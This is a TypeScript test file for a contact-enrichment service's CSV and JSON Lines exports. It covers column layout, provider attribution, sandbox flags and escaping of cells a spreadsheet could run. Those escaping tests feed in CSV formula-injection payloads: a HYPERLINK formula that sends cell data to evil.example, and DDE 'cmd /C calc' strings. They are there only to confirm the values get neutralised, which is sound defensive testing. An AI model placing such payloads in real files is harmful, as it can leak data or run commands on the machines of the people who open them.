import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ENRICH_FIELDS } from '@sluice/enrichment';
import {
  csvRowOf,
  EXPORT_CSV_COLUMNS,
  EXPORT_INPUT_FIELDS,
  jsonLineOf,
  spreadsheetSafe,
  type ExportedJob,
} from './export-rows';

const job = (overrides: Partial<ExportedJob> = {}): ExportedJob => ({
  id: '6f1c3f2e-5a4b-4c1d-9e8f-0a1b2c3d4e5f',
  type: 'person.email',
  status: 'completed',
  input: { first_name: 'Ada', last_name: 'Lovelace', domain: 'example.com' },
  result: {
    data: {
      business_email: 'ada@example.com',
      email_status: 'valid',
      technologies: ['React', 'Go'],
      first_name: null,
    },
    sources: { business_email: 'rocketreach', email_status: 'rocketreach' },
    confidence: { business_email: 0.9 },
    attribution: ['Powered by RocketReach'],
    email: { email: 'ada@example.com' },
  },
  error: null,
  credits_spent: '1.5000',
  created_at: new Date('2026-12-02T10:00:00Z'),
  completed_at: new Date('2026-12-02T10:00:02Z'),
  ...overrides,
});

const byColumn = (row: string[]): Record<string, string> =>
  Object.fromEntries(EXPORT_CSV_COLUMNS.map((column, i) => [column, row[i]]));

describe('the CSV export row', () => {
  it('has a fixed header: the job, every input field, every result field, then provenance', () => {
    expect(EXPORT_INPUT_FIELDS).toEqual(
      expect.arrayContaining([
        'company_number',
        'company_name',
        'domain',
        'first_name',
        'email',
        'linkedin_url',
      ]),
    );
    expect(new Set(EXPORT_CSV_COLUMNS).size).toBe(EXPORT_CSV_COLUMNS.length);
    expect(EXPORT_CSV_COLUMNS.slice(0, 3)).toEqual(['job_id', 'type', 'status']);
    expect(EXPORT_CSV_COLUMNS).toEqual(expect.arrayContaining([...ENRICH_FIELDS, 'input_first_name']));
    expect(EXPORT_CSV_COLUMNS.slice(-8)).toEqual([
      'sources',
      'attribution',
      'sandbox',
      'error',
      'unresolved',
      'credits_spent',
      'created_at',
      'completed_at',
    ]);
  });

  it('puts each value under its column, with the attribution RocketReach data must carry', () => {
    const row = csvRowOf(job());
    expect(row).toHaveLength(EXPORT_CSV_COLUMNS.length);
    expect(byColumn(row)).toMatchObject({
      job_id: '6f1c3f2e-5a4b-4c1d-9e8f-0a1b2c3d4e5f',
      input_first_name: 'Ada',
      input_company_number: '',
      business_email: 'ada@example.com',
      technologies: 'React; Go',
      first_name: '',
      sources: '{"business_email":"rocketreach","email_status":"rocketreach"}',
      attribution: 'Powered by RocketReach',
      sandbox: '',
      error: '',
      unresolved: '',
      credits_spent: '1.5',
      created_at: '2026-12-02T10:00:00.000Z',
      completed_at: '2026-12-02T10:00:02.000Z',
    });
  });

  it('leaves the result columns empty for a job without data', () => {
    const row = byColumn(
      csvRowOf(
        job({
          status: 'failed',
          result: null,
          error: 'no eligible provider',
          credits_spent: 0,
          completed_at: null,
        }),
      ),
    );
    expect(row).toMatchObject({
      status: 'failed',
      business_email: '',
      sources: '',
      attribution: '',
      error: 'no eligible provider',
      credits_spent: '0',
      completed_at: '',
    });
  });

  it('says which goals stayed unanswered, why, and which providers asking again later may reach', () => {
    const unresolved = [
      {
        goal: 'email',
        reason: 'not_found',
        retry_later: [
          { provider: 'apollo', reason: 'out_of_credits' },
          { provider: 'rocketreach', reason: 'circuit_open' },
        ],
      },
      { goal: 'phone', reason: 'not_found' },
    ];
    const row = byColumn(csvRowOf(job({ result: { data: {}, unresolved } })));
    expect(row.unresolved).toBe(
      'email: not_found (retry later: apollo out_of_credits, rocketreach circuit_open); phone: not_found',
    );
    expect(jsonLineOf(job({ result: { data: {}, unresolved } }))).toMatchObject({ unresolved });
    // Anything else under the name is not read as a goal.
    expect(byColumn(csvRowOf(job({ result: { unresolved: [{ goal: 1 }, 'x'] } }))).unresolved).toBe('');
  });
});

describe('a CSV cell a spreadsheet could run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ["+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\uFF1D1+1'],
    ['\uFF0BHYPERLINK("x")'],
  ])('is written as text with a leading quote: %j', (value) => {
    expect(spreadsheetSafe(value)).toBe(`'${value}`);
  });

  it.each([['+442079460000'], ['+1 (415) 555-0100'], ['-1.5'], ['Ada'], [''], ['ada@example.com'], ['a=b']])(
    'leaves a phone number, a figure or plain text as it is: %j',
    (value) => {
      expect(spreadsheetSafe(value)).toBe(value);
    },
  );

  it('applies to every value of the row: input, result and error', () => {
    const row = byColumn(
      csvRowOf(
        job({
          input: { first_name: '=1+2', last_name: 'Lovelace', domain: 'example.com' },
          result: {
            data: { business_email: 'ada@example.com', title: '@SUM(A1)', mobile_phone: '+447700900123' },
            sources: {},
          },
          error: '+HYPERLINK("x")',
        }),
      ),
    );
    expect(row).toMatchObject({
      input_first_name: "'=1+2",
      input_last_name: 'Lovelace',
      title: "'@SUM(A1)",
      mobile_phone: '+447700900123',
      business_email: 'ada@example.com',
      error: '\'+HYPERLINK("x")',
    });
  });
});

describe('the JSON Lines export object', () => {
  it('carries the input, data, sources, confidence and attribution', () => {
    expect(jsonLineOf(job())).toEqual({
      id: '6f1c3f2e-5a4b-4c1d-9e8f-0a1b2c3d4e5f',
      type: 'person.email',
      status: 'completed',
      input: { first_name: 'Ada', last_name: 'Lovelace', domain: 'example.com' },
      data: {
        business_email: 'ada@example.com',
        email_status: 'valid',
        technologies: ['React', 'Go'],
        first_name: null,
      },
      sources: { business_email: 'rocketreach', email_status: 'rocketreach' },
      confidence: { business_email: 0.9 },
      attribution: ['Powered by RocketReach'],
      sandbox: false,
      error: null,
      unresolved: [],
      credits_spent: 1.5,
      created_at: '2026-12-02T10:00:00.000Z',
      completed_at: '2026-12-02T10:00:02.000Z',
    });
    expect(jsonLineOf(job({ result: null }))).toMatchObject({ data: null, sources: null, attribution: [] });
  });

  it('marks sandbox data in both formats, as the API does', () => {
    const fromSandbox = job({ result: { data: { business_email: 'ada@example.com' }, sandbox: true } });
    expect(jsonLineOf(fromSandbox)).toMatchObject({ sandbox: true });
    expect(byColumn(csvRowOf(fromSandbox))).toMatchObject({ sandbox: 'true' });
    expect(byColumn(csvRowOf(job()))).toMatchObject({ sandbox: '' });
  });
});

describe('the download route as the API documents it', () => {
  // The committed document, which a unit test keeps equal to what the controllers declare.
  const document = JSON.parse(
    readFileSync(join(__dirname, '..', '..', '..', '..', 'libs', 'client', 'openapi.json'), 'utf8'),
  ) as { paths: Record<string, Record<string, { description?: string }>> };
  const [csvText, jsonLinesText] = (document.paths['/v1/exports/{id}']?.get?.description ?? '').split('\n\n');

  it('names every CSV column after the input and result fields', () => {
    const described = EXPORT_CSV_COLUMNS.filter(
      (column) => !column.startsWith('input_') && !(ENRICH_FIELDS as readonly string[]).includes(column),
    );
    expect(described.filter((column) => !csvText.includes(`\`${column}\``))).toEqual([]);
  });

  it('names every JSON Lines field', () => {
    const fields = Object.keys(jsonLineOf(job()));
    expect(fields.filter((field) => !jsonLinesText.includes(`\`${field}\``))).toEqual([]);
  });
});
